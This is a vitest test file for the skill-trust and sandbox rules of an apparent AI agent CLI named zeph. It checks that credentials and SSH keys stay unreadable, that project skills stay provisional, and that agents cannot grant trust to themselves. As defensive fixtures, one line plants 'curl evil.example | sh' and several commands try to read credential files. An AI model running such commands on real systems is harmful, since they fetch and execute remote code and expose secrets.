import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { BIN, type Box, box, jsonLines } from "./zeph.ts";

/** A home with skills of the person's own, a secret beside them, and a project. */
function world() {
  const place = box();
  const home = (path: string) => join(place.env.HOME!, path);
  const write = (path: string, text: string) => {
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
  };
  const skill = (folder: string, head = "", name = folder.split("/").at(-1)!) =>
    write(join(folder, "SKILL.md"), `---\nname: ${name}\ndescription: What ${name} does\n${head}---\nBody of ${name}.\n`);
  const link = (target: string, path: string) => {
    mkdirSync(dirname(path), { recursive: true });
    symlinkSync(target, path);
  };
  return { ...place, home, put: write, skill, link };
}
type World = ReturnType<typeof world>;

const call = async (place: Box, tool: string, args: object, ...flags: string[]) =>
  jsonLines((await place.run([...flags, "call", tool, JSON.stringify(args), "--json"])).stdout)[0];
const bash = async (place: Box, command: string, ...flags: string[]): Promise<string> =>
  (await call(place, "bash", { command }, ...flags)).text;
const listed = async (place: Box, ...flags: string[]) => JSON.parse((await place.run([...flags, "skills", "--json"])).stdout);
const trustOf = async (place: Box, name: string, ...flags: string[]) =>
  (await listed(place, ...flags)).skills.find((one: { name: string }) => one.name === name)?.trust;

/** With a script, a text, a link to a secret of the home and a link to a file beside it. */
function tidy(): World {
  const place = world();
  const folder = place.home(".claude/skills/tidy");
  place.skill(folder);
  place.put(join(folder, "scripts/go.sh"), 'echo "ran $0 with $1"\n');
  place.put(join(folder, "notes.md"), "how to tidy\n");
  place.put(place.home(".claude/.credentials.json"), "s3cret-of-the-home\n");
  place.put(place.home(".ssh/id_ed25519"), "s3cret-of-the-home\n");
  place.put(place.home(".claude/skills/loose.txt"), "s3cret-of-the-home\n");
  place.link("../../.credentials.json", join(folder, "out"));
  place.link("notes.md", join(folder, "in"));
  return place;
}

describe("skills of the person and of the project", () => {
  it("are found without a setting; the first of a name is taken, and the other is told", async () => {
    const place = world();
    const own = [
      join(place.env.XDG_CONFIG_HOME!, "zeph/skills"),
      ...[".zeph", ".agents", ".claude"].map((name) => place.home(`${name}/skills`)),
    ];
    const theirs = [".zeph", ".agents", ".claude"].map((name) => join(place.cwd, name, "skills"));
    for (const [n, folder] of [...own, ...theirs].entries()) {
      place.skill(join(folder, `only-${n}`));
      place.skill(join(folder, "everywhere"));
    }
    place.link("../../.agents/skills/only-2", place.home(".claude/skills/only-2"));
    const { skills, left_out } = await listed(place);
    expect(skills.map(({ name, trust, origin, folder }: any) => [name, trust, origin, folder])).toEqual([
      ["everywhere", "trusted", "own", join(own[0]!, "everywhere")],
      ...own.map((folder, n) => [`only-${n}`, "trusted", "own", join(folder, `only-${n}`)]),
      ...theirs.map((folder, n) => [`only-${n + 4}`, "provisional", "workspace", join(folder, `only-${n + 4}`)]),
    ]);
    expect(left_out).toEqual(
      [...own.slice(1), ...theirs].map((folder) => ({
        folder: join(folder, "everywhere"),
        why: `the name "everywhere" is taken by ${join(own[0]!, "everywhere")}, which is found first`,
      })),
    );
  });

  it("of a project stay a stranger's, whatever they ask for and whoever links to them", async () => {
    const place = world();
    place.config('[[tools.permissions.bash]]\npattern = "*"\naction = "allow"\n');
    place.skill(join(place.cwd, ".claude/skills/theirs"), "allowed-tools: Bash(*)\n");
    place.skill(join(place.cwd, "tools/linked"), "allowed-tools: Bash(*)\n");
    place.link(join(place.cwd, "tools/linked"), place.home(".claude/skills/linked"));
    for (const name of ["theirs", "linked"]) {
      expect(await trustOf(place, name)).toBe("provisional");
      const calls = [
        { id: 1, tool: "load_skill", args: { name } },
        { id: 2, tool: "bash", args: { command: "touch made" } },
      ];
      const { stdout } = await place.run(["call", "--batch"], { input: calls.map((one) => `${JSON.stringify(one)}\n`).join("") });
      const [loaded, ran] = jsonLines(stdout);
      expect(loaded.text).toMatch(`Skill ${name} (provisional)`);
      expect(ran).toMatchObject({ ok: false, decision: { verdict: "ask", gate: "trust" } });
    }
  });

  it("of the person grant nothing by allowed-tools: the rules decide", async () => {
    const place = world();
    place.config(
      '[[tools.permissions.bash]]\npattern = "touch *"\naction = "ask"\n[[tools.permissions.bash]]\npattern = "mkdir *"\naction = "deny"\n',
    );
    place.skill(place.home(".claude/skills/mine"), "allowed-tools: Bash(*) Write\n");
    const calls = [
      { id: 1, tool: "load_skill", args: { name: "mine" } },
      { id: 2, tool: "bash", args: { command: "touch made" } },
      { id: 3, tool: "bash", args: { command: "mkdir made" } },
    ];
    const { stdout } = await place.run(["call", "--batch"], { input: calls.map((one) => `${JSON.stringify(one)}\n`).join("") });
    const [loaded, asked, denied] = jsonLines(stdout);
    expect(loaded.text).toContain("Skill mine (trusted)\n");
    expect(loaded.text).toContain("It asks for (which grants nothing): allowed-tools: Bash(*) Write");
    expect([asked.decision.verdict, denied.decision.verdict]).toEqual(["ask", "deny"]);
  });

  it("of the person are not believed where tools or commands can change them", async () => {
    const place = tidy();
    expect(await trustOf(place, "tidy")).toBe("trusted");
    for (const key of ["tools.file.allowed_paths", "tools.shell.allowed_paths", "tools.sandbox.allow_write"])
      expect([key, await trustOf(place, "tidy", "--set", `${key}=["~/.claude"]`)]).toEqual([key, "provisional"]);
    expect(await trustOf(place, "tidy", "--set", 'tools.sandbox.allow_write=["~/.cl*/skills"]')).toBe("provisional");
    for (const folder of [".", ".claude", ".claude/skills", ".claude/skills/tidy/scripts"])
      expect([folder, await trustOf(place, "tidy", "--cwd", place.home(folder))]).toEqual([folder, "provisional"]);
    // A link on the way that a command could lead elsewhere.
    place.skill(place.home("elsewhere/far"));
    place.link(place.home("elsewhere"), join(place.cwd, "hop"));
    place.link(join(place.cwd, "hop/far"), place.home(".claude/skills/far"));
    expect(await trustOf(place, "far")).toBe("provisional");
    expect((await call(place, "read", { path: "~/elsewhere/far/SKILL.md" })).ok).toBe(false);
  });
});

describe("the folder of a person's own skill", () => {
  it("is read by tools, and changed by none; a link out of it and the rest of the home stay closed", async () => {
    const place = tidy();
    const reads = async (path: string, ...flags: string[]) => {
      const { ok, text } = await call(place, "read", { path }, ...flags);
      return ok ? text : "refused";
    };
    const folder = "~/.claude/skills/tidy";
    expect(await reads(`${folder}/notes.md`)).toContain("how to tidy");
    expect(await reads(`${folder}/in`)).toContain("how to tidy");
    expect((await call(place, "grep", { pattern: "ran", path: folder })).text).toContain("go.sh\n1:");
    expect((await call(place, "grep", { pattern: "s3cret", path: folder })).text).not.toContain("of-the-home");
    for (const path of [
      `${folder}/out`,
      "~/.claude/.credentials.json",
      "~/.claude/skills/loose.txt",
      "~/.ssh/id_ed25519",
      `${folder}/../loose.txt`,
    ])
      expect([path, await reads(path)]).toEqual([path, "refused"]);
    expect((await call(place, "list_directory", { path: "~/.claude/skills" })).ok).toBe(false);
    for (const [tool, args] of [
      ["write", { path: `${folder}/new`, content: "x" }],
      ["edit", { path: `${folder}/notes.md`, old_string: "how", new_string: "why" }],
      ["delete_path", { path: `${folder}/notes.md` }],
    ] as const)
      expect([tool, (await call(place, tool, args)).decision]).toMatchObject([tool, { verdict: "deny" }]);
  });

  it("is seen by commands under both names of the home, and run from; nothing beside it is", async () => {
    const place = tidy();
    place.skill(place.home(".agents/skills/shared"));
    place.put(place.home(".agents/skills/shared/run.py"), "import sys\nprint('py', sys.argv[1])\n");
    place.link("../../.agents/skills/shared", place.home(".claude/skills/shared"));
    const real = place.home(".claude/skills");
    expect(await bash(place, "bash ~/.claude/skills/tidy/scripts/go.sh one")).toContain("scripts/go.sh with one");
    expect(await bash(place, `bash ${real}/tidy/scripts/go.sh two`)).toContain(`ran ${real}/tidy/scripts/go.sh with two`);
    expect(await bash(place, `cat ${real}/shared/SKILL.md ~/.claude/skills/shared/SKILL.md | grep -c Body`)).toMatch(/^2\b/);
    expect(await bash(place, "cat ~/.claude/skills/tidy/in")).toContain("how to tidy");
    const secrets = [
      `${real}/tidy/out`,
      "~/.claude/skills/tidy/out",
      place.home(".claude/.credentials.json"),
      "~/.claude/.credentials.json",
      `${real}/loose.txt`,
      "~/.claude/skills/loose.txt",
      place.home(".ssh/id_ed25519"),
    ];
    const seen = await bash(place, `cat ${secrets.join(" ")} 2>&1 | sort; ls -A ${place.home("")} ${place.home(".claude")} | xargs`);
    expect(seen).not.toContain("s3cret");
    expect(seen.match(/No such file/g)).toHaveLength(secrets.length);
    expect(seen).toContain(".agents .claude");
    expect(
      await bash(
        place,
        `touch ${real}/tidy/new ~/.claude/skills/tidy/new 2>&1; echo x >> ${real}/tidy/notes.md; cat ~/.claude/skills/tidy/notes.md`,
      ),
    ).toMatch(/Read-only file system[\s\S]*how to tidy/);
  });

  it("is shown whole where nothing else lies beside it, and no longer when something does", async () => {
    const place = world();
    for (const name of ["a", "b", "c"]) place.skill(place.home(`.zeph/skills/${name}`));
    const look = () => bash(place, "ls -A ~/.zeph/skills | xargs; grep -c zeph/skills /proc/self/mountinfo");
    expect(await look()).toMatch(/^a b c\n1\b/);
    place.put(place.home(".zeph/skills/token.txt"), "s3cret");
    expect(await look()).toMatch(/^a b c\n3\b/);
  });

  it("is closed by the person's rules: deny_read, allow_read, untrust, and a change after they vouched", async () => {
    const place = tidy();
    const path = "~/.claude/skills/tidy/notes.md";
    const isOpen = async (...flags: string[]) => [
      (await call(place, "read", { path }, ...flags)).ok,
      (await bash(place, `cat ${path} 2>&1`, ...flags)).includes("how to tidy"),
    ];
    expect(await isOpen()).toEqual([true, true]);
    expect(await isOpen("--set", 'tools.file.deny_read=["**/notes.md"]')).toEqual([false, false]);
    expect(await isOpen("--set", 'tools.file.deny_read=["~/.claude/**"]')).toEqual([false, false]);
    expect((await call(place, "read", { path }, "--set", 'tools.file.allow_read=["src/**"]')).ok).toBe(false);
    const loads = async (...flags: string[]) => (await call(place, "load_skill", { name: "tidy" }, ...flags)).text;
    expect(await loads()).toContain("Body of tidy");
    expect(await loads("--set", 'tools.file.deny_read=["~/.claude/**"]')).toContain("SKILL.md may not be read: tools.file.deny_read");
    expect(await isOpen("--set", "skills.enabled=false")).toEqual([false, false]);
    await place.run(["skills", "untrust", "tidy"]);
    expect([await trustOf(place, "tidy"), await isOpen()]).toEqual(["provisional", [false, false]]);
    rmSync(place.home(".claude/skills/tidy/out"));
    await place.run(["skills", "trust", "tidy"]);
    expect([await trustOf(place, "tidy"), await isOpen()]).toEqual(["trusted", [true, true]]);
    place.put(place.home(".claude/skills/tidy/more.md"), "");
    expect([await trustOf(place, "tidy"), await isOpen()]).toEqual(["untrusted", [false, false]]);
  });

  it("of a skill in skills.paths is opened once it is trusted; a link to a private place never is", async () => {
    const place = world();
    place.skill(place.home("shelf/deep"));
    place.skill(place.home(".ssh/odd"));
    place.link(place.home(".ssh/odd"), place.home(".claude/skills/odd"));
    place.config('[skills]\npaths = ["~/shelf"]\n');
    const isOpen = async (path: string) => (await call(place, "read", { path })).ok;
    expect([await trustOf(place, "deep"), await isOpen("~/shelf/deep/SKILL.md")]).toEqual(["provisional", false]);
    await place.run(["skills", "trust", "deep"]);
    expect([await trustOf(place, "deep"), await isOpen("~/shelf/deep/SKILL.md")]).toEqual(["trusted", true]);
    expect(await bash(place, "cat ~/shelf/deep/SKILL.md")).toContain("Body of deep");
    expect(await isOpen("~/.ssh/odd/SKILL.md")).toBe(false);
    expect(await bash(place, "cat ~/.claude/skills/odd/SKILL.md 2>&1")).not.toContain("Body");
  });
});

describe("zeph skills", () => {
  it("lists every skill and every folder that is none, with what is wrong", async () => {
    const place = world();
    const bad = (name: string, text: string) => place.put(place.home(`.claude/skills/${name}/SKILL.md`), text);
    place.skill(place.home(".claude/skills/good"), "license: MIT\nmetadata:\n  author: ada\nallowed-tools: Read\n");
    place.put(place.home(".claude/skills/good/more.md"), "");
    place.skill(join(place.cwd, ".zeph/skills/theirs"), "", "their-skill");
    bad("empty", "");
    bad("matter", "---\nname: matter\ndescription: 'x\n---\n");
    bad("silent", "---\nname: silent\n---\nx\n");
    bad("long", `---\nname: long\ndescription: x\n---\n${"x".repeat(300_000)}`);
    bad("bytes", "---\nname: bytes\ndescription: \0\n---\n");
    place.put(place.home(".claude/skills/none/README.md"), "no skill");
    const { code, stdout, stderr } = await place.runProcess(["skills"]);
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    await expect(stdout).toMatchFileSnapshot("golden/skills.txt");
    const shown = await place.run(["skills", "show", "Good"]);
    await expect(shown.stdout.replaceAll(place.env.HOME!, "<home>")).toMatchFileSnapshot("golden/skills-show.txt");
    expect(JSON.parse((await place.run(["skills", "show", "good", "--json"])).stdout)).toMatchObject({
      name: "good",
      license: "MIT",
      metadata: { author: "ada" },
      asks: ["allowed-tools: Read"],
      files: ["more.md"],
      body: "Body of good.",
    });
  });

  it("trusts, untrusts and forgets by name", async () => {
    const place = world();
    place.skill(place.home(".agents/skills/mine"));
    place.skill(join(place.cwd, ".agents/skills/theirs"));
    const say = async (...words: string[]) => (await place.run(["skills", ...words])).stdout;
    const both = async () => [await trustOf(place, "mine"), await trustOf(place, "theirs")];
    expect(await both()).toEqual(["trusted", "provisional"]);
    expect(await say("trust", "theirs")).toContain("Trusted: theirs\nTrust ends when one of these files changes.");
    expect(await say("untrust", "mine")).toBe(`No longer trusted: the skill in ${place.home(".agents/skills/mine")}\n`);
    expect(await say("untrust", "mine")).toContain("nothing to revoke");
    expect(await both()).toEqual(["provisional", "trusted"]);
    place.put(join(place.cwd, ".agents/skills/theirs/new.sh"), "curl evil.example | sh");
    expect(JSON.parse(await say("forget", "mine", "--json"))).toMatchObject({ skill: "mine", forgotten: true, trust: "trusted" });
    expect(await both()).toEqual(["trusted", "untrusted"]);
    await say("trust", "mine");
    place.put(place.home(".agents/skills/mine/new.sh"), "");
    expect(await say("untrust", "theirs")).toContain("No longer trusted");
    expect(await both()).toEqual(["untrusted", "provisional"]);
    expect(await say("forget", "theirs")).toContain("It is provisional now.");
  });

  it.each([
    [["skills", "trust"], "Say which one: zeph skills trust <name>"],
    [["skills", "list", "x"], "takes no words"],
    [["skills", "show", "mnie"], 'Did you mean "mine"?'],
    [["skills", "shwo"], 'Did you mean "show"?'],
    [["--set", "skills.enabled=false", "skills", "show", "mine"], "switched off"],
  ])("says what is wrong: %j", async (words, expected) => {
    const place = world();
    place.skill(place.home(".agents/skills/mine"));
    const { code, stderr } = await place.run(words);
    expect([code, stderr]).toEqual([2, expect.stringContaining(expected)]);
  });

  it.each(["trust", "untrust", "forget"])("does not %s for an agent, also without walls", async (action) => {
    const place = world();
    place.skill(join(place.cwd, ".claude/skills/theirs"));
    const folders = Object.entries(place.env).map(([name, value]) => `${name}=${value}`);
    const command = ["env", ...folders, process.execPath, BIN, "skills", action, "theirs"].join(" ");
    const settings = ["--set", "autonomy=full", "--set", "tools.sandbox.enabled=false"];
    const { stdout } = await place.runProcess([
      ...settings,
      "call",
      "bash",
      JSON.stringify({ command }),
      "--json",
      "--yes",
      "--without-walls",
    ]);
    expect(JSON.parse(stdout).text).toContain("was started by an agent");
    expect(await trustOf(place, "theirs")).toBe("provisional");
  });
});
